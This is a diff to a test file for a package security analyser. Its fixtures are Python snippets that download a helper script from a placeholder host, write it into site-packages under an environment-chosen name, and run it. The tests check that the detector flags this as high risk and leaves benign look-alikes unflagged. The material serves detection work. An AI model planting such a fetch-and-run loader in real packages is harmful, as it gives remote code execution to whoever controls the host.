@@ -664,7 +664,7 @@ test('Python code fetched in one function and the interpreter started on a scrip
     'pkg/core.py': [
       'import os, sys, site, subprocess, requests',
       'def _fetch():',
-      '    code = requests.get("https://files.example/helper.py").text',
+      '    code = requests.get("https://files.example/u/raw/main/helper.py").text',
       '    path = os.path.join(site.getsitepackages()[0], os.getenv("N", ".helper.py"))',
       '    open(path, "w").write(code)',
       '    return path',
@@ -678,10 +678,15 @@ test('Python code fetched in one function and the interpreter started on a scrip
     dropped.reasons.join(' | '),
   );
   assert.equal(dropped.risk, 'high');
+  // a .py URL that is a server's CGI script answers, it is not code fetched
+  const cgi = await analyseTarget({
+    'pkg/core.py': fetchAndRun['pkg/core.py'].replace('u/raw/main/helper.py', 'cgi-bin/assign.py'),
+  });
+  assert.ok(!cgi.reasons.some((reason) => /^downloads Python code/.test(reason)), cgi.reasons.join(' | '));
   // a script the package names itself, or a .py fetched and never run, is not that join
   const named = await analyseTarget({
     'pkg/core.py':
-      'import sys, subprocess, requests\ndef get():\n    return requests.get("https://files.example/helper.py").text\ndef run():\n    subprocess.run([sys.executable, "-m", "pkg.tool"])\n',
+      'import sys, subprocess, requests\ndef get():\n    return requests.get("https://files.example/u/raw/main/helper.py").text\ndef run():\n    subprocess.run([sys.executable, "-m", "pkg.tool"])\n',
   });
   assert.ok(!named.reasons.some((reason) => /^downloads Python code/.test(reason)), named.reasons.join(' | '));
 });
